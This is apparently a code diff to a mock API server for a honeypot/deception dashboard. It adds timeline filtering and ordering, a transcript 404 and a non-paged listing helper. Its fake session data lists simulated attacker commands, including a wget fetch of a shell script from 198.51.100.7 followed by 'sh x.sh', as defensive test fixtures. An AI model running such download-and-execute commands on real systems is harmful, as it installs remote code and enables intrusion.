@@ -186,7 +186,10 @@ class Stub:
 
     async def timeline(self, request: Request) -> Response:
         attacker = _by(self.house.attackers, "uuid", request.path_params["id"])
-        return paged([item for item in self.house.logs if attacker and item["peer"] == attacker["peer"]], request)
+        kinds = [kind for kind in request.query_params.get("kinds", "").split(",") if kind]
+        rows = [item for item in self.house.logs
+                if attacker and item["peer"] == attacker["peer"] and (not kinds or item["kind"] in kinds)]
+        return paged(rows[::-1] if request.query_params.get("order") == "asc" else rows, request)
 
     async def sessions(self, request: Request) -> Response:
         ask = request.query_params
@@ -202,13 +205,14 @@ class Stub:
         if not found:
             return problem(404, "No such session")
         started = int(str(found["started"]))
-        commands = [{"at": started + round((1 + index * 7.9) * 1_000_000), "seq": index + 1, "line": line, "effect": "read"}
+        commands = [{"at": started + round((1.6 + index * 8.3) * 1_000_000), "seq": index + 1, "line": line, "effect": "read"}
                     for index, line in enumerate(("uname -a", "id", "wget http://198.51.100.7/x.sh", "sh x.sh"))]
         terminal = found["recording"] in ("live", "recorded")
         return JSONResponse({**found, "commands": commands if terminal else [], "transcript": terminal})
 
     async def transcript(self, request: Request) -> Response:
-        return JSONResponse(transcript(request.path_params["sid"], request.path_params["decky"], self.house.now))
+        found = _by(self.house.sessions, "sid", request.path_params["sid"])
+        return JSONResponse(transcript(found)) if found else problem(404, "No such recording")
 
     async def deckies(self, request: Request) -> Response:
         return paged(self.house.deckies, request)
@@ -228,7 +232,7 @@ class Stub:
             return JSONResponse(await request.json())
         return JSONResponse({
             "webhook": {"enabled": True, "url": "https://hooks.example/decnet", "secret": "***", "min_depth": 3},
-            "mail": {"enabled": False, "host": "", "port": 587, "sender": "", "recipient": "", "tls": "starttls",
+            "mail": {"enabled": False, "host": "", "port": 587, "sender": "", "recipient": "", "tls": True,
                      "username": "", "password": "", "min_depth": 3}, "allow": ["10.0.0.0/8"]})
 
     async def tested(self, _: Request) -> Response:
@@ -237,6 +241,11 @@ class Stub:
     def _listing(self, rows: Callable[[], list[Json]]) -> Handler:
         async def handler(request: Request) -> Response:
             return paged(rows(), request)
+        return handler
+
+    def _whole(self, rows: Callable[[], list[Json]]) -> Handler:
+        async def handler(_: Request) -> Response:
+            return JSONResponse(rows())
         return handler
 
     def _guarded(self, handler: Handler) -> Handler:
@@ -268,10 +277,10 @@ class Stub:
             ("GET", "/sessions/{id}", self.session), ("GET", "/transcripts/{decky}/{sid}", self.transcript),
             ("GET", "/deckies", self.deckies), ("POST", "/deckies", self.accepted),
             ("GET", "/deckies/{name}", self.decky), ("DELETE", "/deckies/{name}", self.accepted),
-            ("GET", "/archetypes", self._listing(lambda: archetypes)),
+            ("GET", "/archetypes", self._whole(lambda: archetypes)),
             ("GET", "/credentials", self._listing(lambda: house.credentials)),
             ("POST", "/credentials/{id}/reveal", self.reveal),
-            ("GET", "/workers", self._listing(lambda: [{**item, "last_seen": _micros()} for item in WORKERS])),
+            ("GET", "/workers", self._whole(lambda: [{**item, "last_seen": _micros()} for item in WORKERS])),
             ("POST", "/workers/{name}/{deed}", self.accepted), ("GET", "/alerts", self.alerts),
             ("PUT", "/alerts", self.alerts), ("POST", "/alerts/test", self.tested),
             ("GET", "/alerts/outbox", self._listing(lambda: [{**item, "created_at": _micros()} for item in OUTBOX])),
